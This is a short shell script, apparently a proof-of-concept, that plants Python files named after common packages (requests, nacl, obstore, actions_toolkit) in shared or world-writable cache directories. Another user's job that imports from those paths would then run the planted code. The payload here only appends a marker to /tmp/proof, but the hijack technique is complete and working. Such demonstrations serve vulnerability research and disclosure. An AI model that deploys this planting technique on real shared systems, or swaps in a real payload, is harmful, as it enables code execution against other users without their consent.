#!/bin/sh
# plant_packages.sh NAME: put packages that leave a proof where another user's job may look for its own.
for home in /tmp/nix-autocache-0 /sticky/nix-autocache /open/nix-autocache /home/mallory/nix-autocache; do
  mkdir -p "$home/$1"
  for package in nacl obstore actions_toolkit requests; do
    echo 'open("/tmp/proof", "a").write("run")' >"$home/$1/$package.py"
  done
done
